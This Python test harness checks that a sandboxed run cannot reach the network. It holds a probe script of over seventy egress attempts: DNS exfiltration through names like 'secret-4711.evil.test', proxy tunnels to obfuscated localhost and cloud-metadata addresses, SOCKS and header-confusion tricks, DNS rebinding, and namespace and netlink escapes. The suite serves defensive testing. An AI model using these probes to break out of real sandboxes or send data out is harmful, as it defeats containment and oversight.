"""
Ways out of a run, tried from inside, and whoever would be reached by them:
what the tests of the network's walls share.

    net = Outside()
    with Host(workspace + "/host.sock") as host:
        ... PROBES with ADDRESSES as its arguments, in a run ...
    got_out, out = ways_out(output)
"""

import os
import socket
import threading

from lib_proxy import METADATA, NAMES, OTHER, PRIVATE, WEB, WEB6, World

SITE = {"web.test": [WEB], "other.test": [OTHER], "inside.test": [PRIVATE],
        "rebind.test": lambda asked: [WEB] if asked == 1 else [METADATA],
        "meta.test": [METADATA], "back.test": ["127.0.0.1"]}
# What a run may ask names of, when it was given web.test, rebind.test,
# meta.test and back.test.
NAMED = {"web.test", "rebind.test", "meta.test", "back.test"}
ADDRESSES = [WEB, WEB6, OTHER, NAMES, PRIVATE, METADATA]
WAYS_MIN = 70  # that so many were tried is part of each test

# Each function ends with a true value when it got out; names are claims.
PROBES = r'''
import array, ctypes, errno, os, socket, struct, sys
WEB, WEB6, OTHER, NAMES, PRIVATE, METADATA = sys.argv[1:7]
WS = os.getcwd()
LIBC = ctypes.CDLL(None, use_errno=True)
PROXY, SOCKS, DNS = ("127.0.0.1", 3128), ("127.0.0.1", 1080), ("127.0.0.1", 53)
GET = b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"

def tcp(where, family=socket.AF_INET, protocol=0, send=GET % b"x"):
    s = socket.socket(family, socket.SOCK_STREAM, protocol)
    s.settimeout(3)
    s.connect(where)
    s.sendall(send)
    return s.recv(200)

def udp(where, family=socket.AF_INET, data=b"x"):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    s.sendto(data, where)
    return s.recv(200)

def proxied(text, more=b""):
    s = socket.create_connection(PROXY, 3)
    s.sendall(text)
    got = s.recv(400)
    if b" 200" in got.split(b"\r\n")[0] and more:
        s.sendall(more)
        got += s.recv(400)
        return b"page of" in got
    return b"page of" in got

def tunnel(to, host=b"x"):
    return proxied(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (to, to),
                   GET % host)

def socks(request, auth=b"\5\1\0"):
    s = socket.create_connection(SOCKS, 3)
    s.sendall(auth)
    s.recv(2)
    s.sendall(request)
    got = s.recv(100)
    if len(got) < 2 or got[1] != 0:
        return False
    s.sendall(GET % b"x")
    return s.recv(200) if request[1] == 1 else True

def query(name, kind=1):
    words = b"".join(bytes([len(w)]) + w.encode() for w in name.split("."))
    return (b"\1\2\1\0\0\1\0\0\0\0\0\0" + words + b"\0"
            + struct.pack(">HH", kind, 1))

def name_tcp(where, name):
    q = query(name)
    return tcp(where, send=struct.pack(">H", len(q)) + q)

def answered(reply):
    """With an address or a text in it."""
    return struct.unpack(">H", reply[6:8])[0] > 0

def family(number, kind=socket.SOCK_STREAM, protocol=0):
    s = socket.socket(number, kind, protocol)
    s.close()
    return True

def netlink_address():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("BBBBI", 2, 24, 0, 0, 1)
    body += struct.pack("HH4s", 8, 2, socket.inet_aton("93.184.216.9"))
    s.send(struct.pack("IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
    s.settimeout(2)
    reply = s.recv(200)
    return struct.unpack("i", reply[16:20])[0] == 0

def netlink_link():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    name = b"veth9\0\0\0"
    body = struct.pack("BBHiII", 0, 0, 0, 0, 0, 0)
    body += struct.pack("HH", 4 + len(name), 3) + name
    kind = struct.pack("HH", 9, 1) + b"dummy\0\0\0"
    body += struct.pack("HH", 4 + len(kind), 18) + kind
    s.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
    s.settimeout(2)
    reply = s.recv(200)
    return struct.unpack("i", reply[16:20])[0] == 0

def inherited():
    found = []
    for fd in os.listdir("/proc/self/fd"):
        if int(fd) > 2:
            try: found.append(os.readlink("/proc/self/fd/" + fd))
            except OSError: pass
    return [f for f in found if f.startswith("socket:")]

def syscall(number, *words):
    return LIBC.syscall(number, *words) >= 0

def of_the_first_process():
    pidfd = os.pidfd_open(1)
    return any(syscall(438, pidfd, fd, 0) for fd in range(3, 40))

def new_network_with_rights():
    if LIBC.unshare(0x10000000 | 0x40000000) != 0:
        return False
    return bool(tcp((WEB, 80)))

def namespace_of(pid):
    fd = os.open("/proc/%s/ns/net" % pid, os.O_RDONLY)
    return LIBC.setns(fd, 0x40000000) == 0 and tcp((WEB, 80))

def unix(path):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    s.connect(path)
    return s.recv(20) == b"host"

def fast_open():
    s = socket.socket()
    return s.sendto(b"x", 0x20000000, (WEB, 80)) and s.recv(20)

def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    return s

def rebinds():
    first = proxied(b"GET http://rebind.test/ HTTP/1.1\r\nHost: rebind.test"
                    b"\r\nConnection: close\r\n\r\n")
    return any(b"META" in tcp(PROXY, send=b"GET http://rebind.test/ HTTP/1.1"
               b"\r\nHost: rebind.test\r\nConnection: close\r\n\r\n")
               for _ in range(3))

def header_of_another():
    got = tcp(PROXY, send=b"GET http://web.test/ HTTP/1.1\r\nHost: other.test"
              b"\r\nConnection: close\r\n\r\n")
    return b"page of other.test" in got

def second_request_elsewhere():
    s = socket.create_connection(PROXY, 3)
    s.sendall(b"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n"
              b"GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n")
    got = b""
    try:
        while more := s.recv(400): got += more
    except OSError: pass
    return b"page of other.test" in got

def by_name(name, port=80):
    return tcp((socket.gethostbyname(name), port))

ATTEMPTS = {
 "an address by TCP": lambda: tcp((WEB, 80)),
 "an address by TCP over IPv6": lambda: tcp((WEB6, 80), socket.AF_INET6),
 "a mapped address": lambda: tcp(("::ffff:" + WEB, 80), socket.AF_INET6),
 "a datagram": lambda: udp((WEB, 9)),
 "a datagram over IPv6": lambda: udp((WEB6, 9), socket.AF_INET6),
 "a broadcast": lambda: udp(("255.255.255.255", 9)),
 "a multicast group": lambda: udp(("224.0.0.251", 5353)),
 "fast open": fast_open,
 "multipath TCP": lambda: tcp((WEB, 80), protocol=262),
 "SCTP": lambda: tcp((WEB, 80), protocol=132),
 "ICMP by a raw socket": lambda: family(2, socket.SOCK_RAW, 1),
 "ICMP by a ping socket":
    lambda: socket.socket(2, 2, 1).sendto(b"\10\0\0\0\0\1\0\1", (WEB, 1)),
 "raw IP": lambda: family(2, socket.SOCK_RAW, 255),
 "raw IPv6": lambda: family(10, socket.SOCK_RAW, 58),
 "packets of a device": packet,
 "vsock to the host": lambda: tcp((2, 1024), 40),
 "the kernel's ciphers": lambda: family(38, socket.SOCK_SEQPACKET),
 "bluetooth": lambda: family(31, socket.SOCK_SEQPACKET),
 "CAN": lambda: family(29, socket.SOCK_RAW, 1),
 "TIPC": lambda: family(30, socket.SOCK_RDM),
 "RxRPC": lambda: family(33, socket.SOCK_DGRAM),
 "KCM": lambda: family(41, socket.SOCK_DGRAM),
 "XDP": lambda: family(44, socket.SOCK_RAW),
 "an address by netlink": netlink_address,
 "a device by netlink": netlink_link,
 "io_uring": lambda: syscall(425, 8, ctypes.create_string_buffer(200)),
 "a bpf program": lambda: syscall(321, 0, ctypes.create_string_buffer(80), 80),
 "a tun device": lambda: os.open("/dev/net/tun", os.O_RDWR),
 "sockets that were open already": inherited,
 "sockets of the run's first process": of_the_first_process,
 "a network of its own making": new_network_with_rights,
 "the network of its first process": lambda: namespace_of(1),
 "an abstract socket of the host": lambda: unix("\0assent-host-test"),
 "a socket of the host in the workspace": lambda: unix(WS + "/host.sock"),
 "a socket of the system's bus": lambda: unix("/run/dbus/system_bus_socket"),
 "a name server of the host": lambda: udp((NAMES, 53), data=query("web.test")),
 "data in a name":
    lambda: answered(udp(DNS, data=query("secret-4711.evil.test"))),
 "data in a name by TCP":
    lambda: answered(name_tcp(DNS, "secret-4712.evil.test")[2:]),
 "data in a name below a named one":
    lambda: answered(udp(DNS, data=query("secret-4713.web.test"))),
 "data in a question for texts":
    lambda: answered(udp(DNS, data=query("secret-4714.web.test", 16))),
 "a text of a named host":
    lambda: answered(udp(DNS, data=query("web.test", 16))),
 "a tunnel to the machine": lambda: tunnel(b"127.0.0.1:80"),
 "a tunnel to the machine by name": lambda: tunnel(b"localhost:80"),
 "a tunnel to the machine over IPv6": lambda: tunnel(b"[::1]:80"),
 "a tunnel to a mapped address": lambda: tunnel(b"[::ffff:127.0.0.1]:80"),
 "a tunnel to no address": lambda: tunnel(b"0.0.0.0:80"),
 "a tunnel to a number": lambda: tunnel(b"2130706433:80"),
 "a tunnel to a hexadecimal number": lambda: tunnel(b"0x7f000001:80"),
 "a tunnel to a short address": lambda: tunnel(b"127.1:80"),
 "a tunnel to an octal address": lambda: tunnel(b"0177.0.0.1:80"),
 "a tunnel to a named host that is the machine":
    lambda: tunnel(b"back.test:80"),
 "a tunnel to metadata": lambda: tunnel(METADATA.encode() + b":80"),
 "a tunnel to a named host that is metadata": lambda: tunnel(b"meta.test:80"),
 "a tunnel to a private address": lambda: tunnel(PRIVATE.encode() + b":80"),
 "a tunnel to a name that is private": lambda: tunnel(b"inside.test:80"),
 "a tunnel to another port of a named host": lambda: tunnel(b"web.test:8080"),
 "a tunnel to an address of a named host": lambda: tunnel(WEB.encode() + b":80"),
 "a tunnel through the proxy itself": lambda: tunnel(b"127.0.0.1:3128"),
 "a request for metadata": lambda: proxied(
    b"GET http://%s/ HTTP/1.1\r\nHost: x\r\n\r\n" % METADATA.encode()),
 "a request with the header of another host": header_of_another,
 "a second request to another host": second_request_elsewhere,
 "a request with the name of another user":
    lambda: proxied(b"GET http://web.test@other.test/ HTTP/1.1\r\n"
                    b"Host: other.test\r\n\r\n"),
 "a name that is bound again": rebinds,
 "SOCKS to the machine":
    lambda: socks(b"\5\1\0\1\x7f\0\0\1" + struct.pack(">H", 80)),
 "SOCKS to the machine by name":
    lambda: socks(b"\5\1\0\3\x09localhost" + struct.pack(">H", 80)),
 "SOCKS to metadata":
    lambda: socks(b"\5\1\0\1" + socket.inet_aton(METADATA) + b"\0\x50"),
 "SOCKS for datagrams": lambda: socks(b"\5\3\0\1\0\0\0\0\0\0"),
 "SOCKS to be connected to": lambda: socks(b"\5\2\0\1\0\0\0\0\0\0"),
 "SOCKS of version 4":
    lambda: socks(b"", b"\4\1\0\x50" + socket.inet_aton(OTHER) + b"x\0"),
 "an address that no name has": lambda: b"page" in tcp(("127.77.7.7", 80)),
 "a transparent connection to a name that is not named":
    lambda: by_name("other.test"),
 "a transparent connection to a name that is private":
    lambda: by_name("inside.test"),
}

for name, attempt in ATTEMPTS.items():
    if len(sys.argv) > 7 and name not in sys.argv[7:]: continue
    try: out = attempt()
    except (OSError, ValueError, struct.error) as e: out = None
    print(("OUT " if out else "held ") + name, flush=True)
'''


class Host:
    """Sockets outside, and who came."""

    def __init__(self, path):
        self.reached = []
        self.sockets = []
        for address in (path, "\0assent-host-test"):
            sock = socket.socket(socket.AF_UNIX)
            sock.bind(address)
            sock.listen()
            self.sockets.append(sock)
            threading.Thread(target=self.serve, args=(sock, address),
                             daemon=True).start()
        os.chmod(path, 0o666)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for sock in self.sockets:
            sock.shutdown(socket.SHUT_RDWR)
            sock.close()

    def serve(self, sock, address):
        while True:
            try:
                peer, _ = sock.accept()
            except OSError:
                return
            self.reached.append(address)
            peer.send(b"host")
            peer.close()


class Outside(World):
    """An internet and a machine whose every page counts who came."""

    def __init__(self):
        super().__init__(SITE)
        self.reached = []
        for where, addresses in (
                (self.internet, (WEB, OTHER, PRIVATE, METADATA, WEB6)),
                (self.machine, ("127.0.0.1",))):
            for address in addresses:
                for port in (80, 8080):
                    self.serve(address, port, self.page(address, port), where)

    def forget(self):
        self.reached.clear()
        self.asked.clear()

    def page(self, address, port):
        def serve(sock):
            self.reached.append((address, port))
            head = b""
            while b"\r\n\r\n" not in head:
                more = sock.recv(4096)
                if not more:
                    return
                head += more
            host = head.lower().split(b"host: ")[1].split(b"\r\n")[0]
            text = b"page of " + host + b" META" * (address == METADATA)
            sock.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\n"
                         b"Content-Length: %d\r\n\r\n" % len(text) + text)
        return serve


class WaysOut:
    """Of a test case: what the output of PROBES has to say."""

    def read(self, out):
        lines = [line for line in out.splitlines()
                 if line.startswith(("OUT ", "held "))]
        self.assertGreaterEqual(len(lines), WAYS_MIN, out)
        return [line[4:] for line in lines if line.startswith("OUT ")]

    def check_offline(self, net, host, out):
        self.assertEqual(self.read(out), [], out)
        self.assertEqual(host.reached, [])
        self.assertEqual(net.reached, [])
        self.assertEqual(net.asked, [])

    def check_named(self, net, host, out):
        self.assertEqual(self.read(out), [], out)
        self.assertEqual(host.reached, [])
        # The requests that were for a named host are answered by it.
        self.assertIn((WEB, 80), net.reached, out)
        self.assertEqual(set(net.reached) - {(WEB, 80)}, set(), out)
        self.assertEqual([n for n in net.asked if "secret" in n], [])
        self.assertLessEqual(set(net.asked), NAMED)
